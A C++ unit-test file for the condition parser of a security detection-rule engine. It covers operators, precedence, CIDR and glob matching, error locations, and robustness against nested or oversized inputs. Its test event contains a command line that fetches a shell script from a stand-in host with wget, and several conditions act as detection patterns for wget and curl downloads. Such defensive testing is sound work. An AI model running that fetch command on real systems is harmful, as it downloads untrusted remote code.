// Conditions: every operator, precedence, types, and the located errors of the compiler.
#include <gtest/gtest.h>

#include "condition_parser.h"
#include "glob_match.h"
#include "rules_test_util.h"

namespace vigil::rules::testing {
namespace {

// True when a rule with condition `cond` fires on the event `json`.
bool Match(const std::string& cond, const std::string& json) {
  Loaded l = Load("- rule: r\n  name: R\n  severity: low\n  condition: |-\n    " + cond + "\n");
  EXPECT_TRUE(l.ok()) << cond << "\n" << l.Text();
  if (!l.ok()) return false;
  return !l.Fire(Ev(json)).empty();
}

// The code of the first diagnostic.
std::string Code(const std::string& located) { return located.substr(located.find(' ') + 1); }

// The first diagnostic of loading a rule with `cond` as a plain scalar (column 14 = offset 0).
std::string FirstError(const std::string& cond) {
  Loaded l = Load(OneRule(cond));
  EXPECT_FALSE(l.ok()) << cond.substr(0, 200);
  return l.Codes().empty() ? "" : l.Codes()[0];
}

const char* kSsh = R"({"event":{"dataset":"access.sshd","category":["authentication"],"outcome":"failure"},
  "user":{"name":"Root"},"source":{"ip":"10.1.2.3","port":2222},"process":{"pid":42},
  "@timestamp":"2026-03-01T10:00:00Z","event.duration":1500000000,
  "process.command_line":"/usr/bin/wget http://x.example/a.sh"})";

TEST(Condition, Equality) {
  EXPECT_TRUE(Match("user.name = Root", kSsh));
  EXPECT_FALSE(Match("user.name = root", kSsh));
  EXPECT_TRUE(Match("user.name == 'Root'", kSsh));
  EXPECT_TRUE(Match("user.name != root", kSsh));
  EXPECT_FALSE(Match("user.name != Root", kSsh));
  EXPECT_TRUE(Match("event.outcome = \"failure\"", kSsh));
}

TEST(Condition, MissingFieldIsFalseExceptUnderNot) {
  EXPECT_FALSE(Match("host.name = x", kSsh));
  EXPECT_FALSE(Match("host.name != x", kSsh));
  EXPECT_TRUE(Match("not host.name = x", kSsh));
  EXPECT_FALSE(Match("host.name exists", kSsh));
  EXPECT_TRUE(Match("user.name exists", kSsh));
}

TEST(Condition, NumbersAndOrdering) {
  EXPECT_TRUE(Match("source.port = 2222", kSsh));
  EXPECT_TRUE(Match("source.port > 1024", kSsh));
  EXPECT_TRUE(Match("source.port >= 2222", kSsh));
  EXPECT_FALSE(Match("source.port < 2222", kSsh));
  EXPECT_TRUE(Match("source.port <= 2222", kSsh));
  EXPECT_TRUE(Match("source.port in (22, 2222)", kSsh));
  EXPECT_FALSE(Match("source.port in (22, 23)", kSsh));
  EXPECT_TRUE(Match("process.pid != 1", kSsh));
}

TEST(Condition, TimeAndDuration) {
  EXPECT_TRUE(Match("@timestamp >= '2026-03-01T00:00:00Z'", kSsh));
  EXPECT_FALSE(Match("@timestamp < 2026-03-01T10:00:00Z", kSsh));
  EXPECT_TRUE(Match("event.duration > 1s", kSsh));
  EXPECT_FALSE(Match("event.duration > 2s", kSsh));
  EXPECT_TRUE(Match("event.duration = 1500ms", kSsh));
}

TEST(Condition, StringOperators) {
  EXPECT_TRUE(Match("process.command_line contains wget", kSsh));
  EXPECT_FALSE(Match("process.command_line contains WGET", kSsh));
  EXPECT_TRUE(Match("process.command_line icontains WGET", kSsh));
  EXPECT_TRUE(Match("process.command_line icontains (curl, 'X.EXAMPLE')", kSsh));
  EXPECT_TRUE(Match("process.command_line startswith /usr/bin/", kSsh));
  EXPECT_FALSE(Match("process.command_line startswith /bin/", kSsh));
  EXPECT_TRUE(Match("process.command_line endswith .sh", kSsh));
  EXPECT_TRUE(Match("process.command_line endswith (.py, .sh)", kSsh));
  EXPECT_TRUE(Match("process.command_line glob '/usr/*/wget *'", kSsh));
  EXPECT_FALSE(Match("process.command_line glob '/usr/bin/curl*'", kSsh));
  EXPECT_TRUE(Match("process.command_line regex 'wget\\s+https?://'", kSsh));
  EXPECT_FALSE(Match("process.command_line regex '^wget'", kSsh));
  EXPECT_TRUE(Match("user.name in (admin, Root)", kSsh));
}

TEST(Condition, ListFieldsMatchAnyElement) {
  EXPECT_TRUE(Match("event.category = authentication", kSsh));
  EXPECT_FALSE(Match("event.category = network", kSsh));
  EXPECT_TRUE(Match("event.category != network", kSsh));
  EXPECT_TRUE(Match("event.category in (network, authentication)", kSsh));
  EXPECT_TRUE(Match("event.category startswith auth", kSsh));
  EXPECT_TRUE(Match("event.category icontains AUTH", kSsh));
}

TEST(Condition, IpAndCidr) {
  EXPECT_TRUE(Match("source.ip = 10.1.2.3", kSsh));
  EXPECT_TRUE(Match("source.ip in (10.0.0.0/8, 192.168.0.0/16)", kSsh));
  EXPECT_FALSE(Match("source.ip in (172.16.0.0/12)", kSsh));
  EXPECT_TRUE(Match("source.ip != 192.168.1.1", kSsh));
  EXPECT_TRUE(Match("source.ip = 10.1.0.0/16", kSsh));
  EXPECT_TRUE(Match("source.ip != 2001:db8::/32", kSsh));
}

TEST(Condition, PrecedenceNotAndOr) {
  // and binds tighter than or; not tighter than and.
  EXPECT_TRUE(Match("user.name = x or user.name = Root and source.port = 2222", kSsh));
  EXPECT_FALSE(Match("(user.name = x or user.name = Root) and source.port = 1", kSsh));
  EXPECT_TRUE(Match("user.name = x or user.name = Root and not source.port = 1", kSsh));
  EXPECT_FALSE(Match("not user.name = Root and source.port = 2222", kSsh));
  EXPECT_TRUE(Match("not (user.name = x and source.port = 2222)", kSsh));
  EXPECT_TRUE(Match("not not user.name = Root", kSsh));
}

TEST(Condition, ErrorsAreLocatedAtTheToken) {
  EXPECT_EQ(FirstError("user.nam = x"), "4:14 E206");
  EXPECT_EQ(FirstError("user.name = x and nosuch.field exists"), "4:32 E206");
  EXPECT_EQ(FirstError("source.ip = foo"), "4:26 E207");
  EXPECT_EQ(FirstError("source.ip contains 10"), "4:24 E207");
  EXPECT_EQ(FirstError("user.name < b"), "4:24 E207");
  EXPECT_EQ(FirstError("source.port = abc"), "4:28 E207");
  EXPECT_EQ(FirstError("source.port > 1s"), "4:28 E207");
  EXPECT_EQ(FirstError("user.name regex 'a(b'"), "4:30 E209");
  EXPECT_EQ(FirstError("user.name = x and"), "4:31 E205");
  EXPECT_EQ(FirstError("(user.name = x"), "4:28 E205");
  EXPECT_EQ(FirstError("user.name = x)"), "4:27 E205");
  EXPECT_EQ(FirstError("user.name = 'x"), "4:26 E205");
  EXPECT_EQ(FirstError("user.name = (a, b)"), "4:24 E205");
  EXPECT_EQ(FirstError("user.name in nolist"), "4:27 E208");
  EXPECT_EQ(FirstError("nosuchmacro"), "4:14 E208");
  EXPECT_EQ(FirstError("user.name"), "4:14 E205");
  EXPECT_EQ(FirstError("user.name ! x"), "4:24 E205");
}

TEST(Condition, QuotedScalarColumnsCountTheQuote) {
  Loaded l = Load("- rule: r\n  name: R\n  severity: low\n  condition: \"user.name = x and bad.f exists\"\n");
  ASSERT_EQ(l.Codes().size(), 1u) << l.Text();
  EXPECT_EQ(l.Codes()[0], "4:33 E206");
  Loaded s = Load("- rule: r\n  name: R\n  severity: low\n  condition: 'user.name = ''x'' and bad.f exists'\n");
  ASSERT_EQ(s.Codes().size(), 1u) << s.Text();
  EXPECT_EQ(s.Codes()[0], "4:37 E206");
}

TEST(Condition, BlockScalarErrorsGiveTheTokenLine) {
  Loaded l = Load("- rule: r\n  name: R\n  severity: low\n  condition: |\n    user.name = x\n      and bad.f exists\n");
  ASSERT_EQ(l.Codes().size(), 1u) << l.Text();
  EXPECT_EQ(l.Codes()[0], "6:11 E206");
}

TEST(Condition, HostileInputs) {
  std::string deep(200, '(');
  deep += "user.name = x" + std::string(200, ')');
  EXPECT_EQ(FirstError(deep), "4:79 E214");  // the 66th '(' is too deep
  std::string nots;
  for (int i = 0; i < 100; ++i) nots += "not ";
  EXPECT_EQ(Code(FirstError(nots + "user.name = x")), "E214");
  std::string huge = "user.name in (";
  for (int i = 0; i < 30000; ++i) huge += "v" + std::to_string(i) + ",";
  huge += "z)";
  EXPECT_EQ(Code(FirstError(huge)), "E214");
  std::string mb;
  while (mb.size() < (1u << 20)) mb += "user.name = x or ";
  mb += "user.name = y";
  EXPECT_EQ(Code(FirstError(mb)), "E214");
  EXPECT_EQ(Code(FirstError("user.name regex 'a{1000}{1000}{1000}'")), "E209");
}

TEST(Condition, RegexIsLinearTime) {
  std::string text(5000, 'a');
  EXPECT_FALSE(Match("process.command_line regex '(a+)+$b'",
                     R"({"process":{"command_line":")" + text + "\"}}"));
}

TEST(Glob, FnmatchSemantics) {
  EXPECT_TRUE(GlobMatch("*", ""));
  EXPECT_TRUE(GlobMatch("a*c", "abbbc"));
  EXPECT_TRUE(GlobMatch("/srv/*", "/srv/a/b"));  // '*' crosses '/'
  EXPECT_TRUE(GlobMatch("?x", "ax"));
  EXPECT_FALSE(GlobMatch("?x", "x"));
  EXPECT_TRUE(GlobMatch("[a-c]z", "bz"));
  EXPECT_FALSE(GlobMatch("[!a-c]z", "bz"));
  EXPECT_TRUE(GlobMatch("\\*", "*"));
  EXPECT_FALSE(GlobMatch("\\*", "a"));
  EXPECT_TRUE(GlobMatch("[ab", "[ab"));
  EXPECT_TRUE(GlobMatch("*.exe", "x.tar.exe"));
  EXPECT_FALSE(GlobMatch("*.exe", "x.exe.txt"));
}

TEST(Parser, SyntaxTreeShape) {
  ConditionError err;
  auto ast = ParseCondition("a = 1 or b = 2 and not c exists", &err);
  ASSERT_NE(ast, nullptr) << err.message;
  EXPECT_EQ(ast->kind, AstNode::Kind::kOr);
  ASSERT_EQ(ast->children.size(), 2u);
  EXPECT_EQ(ast->children[1]->kind, AstNode::Kind::kAnd);
  EXPECT_EQ(ast->children[1]->children[1]->kind, AstNode::Kind::kNot);
}

}  // namespace
}  // namespace vigil::rules::testing
